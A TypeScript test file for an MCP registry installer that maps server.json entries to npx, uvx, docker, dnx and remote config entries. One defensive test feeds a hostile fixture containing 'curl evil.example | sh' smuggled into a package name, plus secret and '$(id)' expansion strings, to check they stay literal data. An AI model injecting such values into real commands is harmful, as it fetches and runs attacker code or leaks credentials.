import { describe, expect, it } from "bun:test"
import * as v from "valibot"
import { chooseOption } from "../../src/install/registry-choose.ts"
import { literal } from "../../src/install/registry-inputs.ts"
import { mapOption, ociImage, registryOptions } from "../../src/install/registry-map.ts"
import { ServerJson } from "../../src/install/registry-schema.ts"
import {
  compareVersions,
  localName,
  parseRegistryName,
  registryRequest,
  resolveRegistryServer,
} from "../../src/install/registry.ts"
import { createRegistryClient } from "../../src/install/registry-client.ts"
import { type Doc, SHA, seedDocuments } from "../fixtures/registry/documents.ts"
import { startRegistry } from "../fixtures/registry/server.ts"

// server.json → mcp.json entry, for every way a server can run (docs/registry.md).
const REG = "https://registry.example.com"
const doc = (name: string, version?: string): ServerJson => {
  const d = seedDocuments()
    .filter((x: Doc) => x.name === name && (!version || x.version === version))
    .at(-1)
  return v.parse(ServerJson, d)
}
const map = (name: string, pick: (s: ServerJson) => number = () => 0) => {
  const s = doc(name)
  return mapOption(s, REG, registryOptions(s)[pick(s)]!)
}
const nothing = () => false
const everything = () => true

describe("server.json to a config entry", () => {
  it("npm: npx -y pkg@version, named and positional arguments, secret env as a reference", () => {
    const m = map("io.github.example/weather")
    expect(m.entry).toEqual({
      command: "npx",
      args: ["-y", "@example/weather-mcp@1.2.0", "--units", "metric"],
      env: { WEATHER_API_KEY: "${WEATHER_API_KEY}", WEATHER_LANG: "en" },
    })
    expect(m.variables).toEqual({ WEATHER_API_KEY: "OpenWeatherMap API key; secret" })
    expect(m.origin).toEqual({
      url: REG,
      name: "io.github.example/weather",
      version: "1.2.0",
      type: "npm",
      identifier: "@example/weather-mcp",
    })
  })

  it("pypi: uvx pkg==version", () => {
    const m = map("io.github.example/weather", () => 1)
    expect(m.entry).toEqual({
      command: "uvx",
      args: ["weather-mcp==1.2.0"],
      env: { WEATHER_API_KEY: "${WEATHER_API_KEY}" },
    })
    expect(m.runtime).toBe("uvx")
  })

  it("remote: declared header with a secret variable becomes a reference", () => {
    const m = map("io.github.example/weather", () => 2)
    expect(m.entry).toEqual({
      type: "http",
      url: "https://weather.example.com/mcp",
      headers: { Authorization: "Bearer ${TOKEN}" },
    })
    expect(m.variables).toEqual({ TOKEN: "Your weather.example.com token; secret" })
    expect(m.runtime).toBeUndefined()
  })

  it("sse remote with a required secret header", () => {
    expect(map("io.github.example/notes").entry).toEqual({
      type: "sse",
      url: "https://notes.example.com/sse",
      headers: { "X-API-Key": "${X_API_KEY}" },
    })
  })

  it("oci: docker run -i --rm with runtime arguments, -e for each variable, then the image", () => {
    const m = map("io.github.example/db-tool")
    expect(m.entry).toEqual({
      command: "docker",
      args: [
        "run",
        "-i",
        "--rm",
        "--mount",
        "type=bind,src=${SOURCE_PATH},dst=/data",
        "-e",
        "DB_PASSWORD",
        "example/db-tool:3.1.0",
        "--host",
        "localhost",
      ],
      env: { DB_PASSWORD: "${DB_PASSWORD}" },
    })
    expect(Object.keys(m.variables)).toEqual(["DB_PASSWORD", "SOURCE_PATH"])
  })

  it("oci: an image pinned by digest keeps it, and the lock origin records the digest", () => {
    const m = map("io.github.example/pinned")
    expect(m.entry.args).toEqual(["run", "-i", "--rm", `ghcr.io/example/pinned@sha256:${SHA}`])
    expect(m.origin.digest).toBe(`sha256:${SHA}`)
    expect(
      ociImage({ registryType: "oci", identifier: "o/i", version: "1", registryBaseUrl: "https://ghcr.io" })
        .image,
    ).toBe("ghcr.io/o/i:1")
  })

  it("nuget: dnx pkg@version --yes -- package arguments", () => {
    expect(map("io.github.example/dotnet-tool").entry).toEqual({
      command: "dnx",
      args: ["Example.McpServer@0.5.0", "--yes", "--", "mcp", "start"],
    })
  })

  it("mcpb: says the exact command that installs the bundle", () => {
    expect(() => map("io.github.example/editor")).toThrow(
      `mcpb packages install with: agent install https://github.com/example/editor/releases/download/v1.0.2/editor.mcpb --sha256 ${SHA}`,
    )
  })

  it("registry text never becomes a reference or a shell line (I21, I01)", () => {
    const m = map("io.github.example/hostile")
    expect(m.entry).toEqual({
      command: "npx",
      args: ["-y", "hostile-mcp; curl evil.example | sh@6.6.6", "$${AWS_SECRET_ACCESS_KEY}"],
      env: { HOSTILE_MODE: "%%HOME%% $$(id)" },
    })
    expect(m.variables).toEqual({})
    // The link checks refuse what the loader would: here the env name is fine and the argv is data.
    const req = registryRequest("hostile", {
      found: { server: doc("io.github.example/hostile") },
      registry: REG,
      mapped: m,
      chosen: "npm",
      reason: "",
    })
    expect(req.server.transport === "stdio" && req.server.args[2]).toBe("$${AWS_SECRET_ACCESS_KEY}")
    expect(literal("a$b%c{env:X}")).toBe("a$$b%%c\\{env:X}")
  })
})

describe("choosing a package or remote", () => {
  it("takes the first whose runtime is on PATH and says why", () => {
    const s = doc("io.github.example/weather")
    const c = chooseOption(s, { hasCommand: (n) => n === "uvx" })
    expect(c.option.type).toBe("pypi")
    expect(c.reason).toBe("uvx is on PATH (skipped npm: npx not found on PATH)")
  })

  it("falls back to the remote when no runtime is here", () => {
    const c = chooseOption(doc("io.github.example/weather"), { hasCommand: nothing })
    expect(c.option.kind).toBe("remote")
    expect(c.reason).toContain("it needs nothing installed locally")
  })

  it("--package and --remote choose outright; a missing one is named with what is offered", () => {
    const s = doc("io.github.example/weather")
    expect(chooseOption(s, { package: "pypi", hasCommand: everything }).option.type).toBe("pypi")
    expect(chooseOption(s, { remote: true, hasCommand: everything }).option.kind).toBe("remote")
    expect(() => chooseOption(s, { package: "oci", hasCommand: everything })).toThrow(
      "io.github.example/weather has no oci package",
    )
  })

  it("never guesses an mcpb bundle; with nothing runnable it names what is missing", () => {
    const c = chooseOption(doc("io.github.example/db-tool"), { hasCommand: nothing })
    expect(c.option.type).toBe("oci")
    expect(c.reason).toContain("install docker before starting it")
    expect(chooseOption(doc("io.github.example/editor"), { hasCommand: everything }).option.type).toBe("mcpb")
  })
})

describe("names and versions", () => {
  it("recognises reverse-DNS names and only those", () => {
    expect(parseRegistryName("io.github.owner/server")).toEqual({ name: "io.github.owner/server" })
    expect(parseRegistryName("io.github.owner/server@1.2.3")).toEqual({
      name: "io.github.owner/server",
      version: "1.2.3",
    })
    for (const other of [
      "github",
      "./dir/server",
      "owner/server",
      "agentrt://mcp/install",
      "io.x/bundle.mcpb",
      "/abs/a.b/c",
    ])
      expect(parseRegistryName(other)).toBeUndefined()
    expect(localName("io.github.owner/server")).toBe("server")
  })

  it("orders versions numerically, a pre-release before its release", () => {
    expect(compareVersions("1.10.0", "1.9.0")).toBe(1)
    expect(compareVersions("1.2.0-beta.1", "1.2.0")).toBe(-1)
    expect(compareVersions("v2.0.0", "2.0.0")).toBe(0)
  })

  it("resolves against the fixture registry and maps the chosen way", async () => {
    await using reg = await startRegistry()
    const r = await resolveRegistryServer(
      [createRegistryClient({ baseUrl: reg.url })],
      "io.github.example/weather",
      "1.1.0",
      { hasCommand: (n) => n === "npx" },
    )
    expect(r.mapped.entry.args).toEqual(["-y", "@example/weather-mcp@1.1.0", "--units", "metric"])
    expect(r.chosen).toBe("npm package @example/weather-mcp")
  })
})
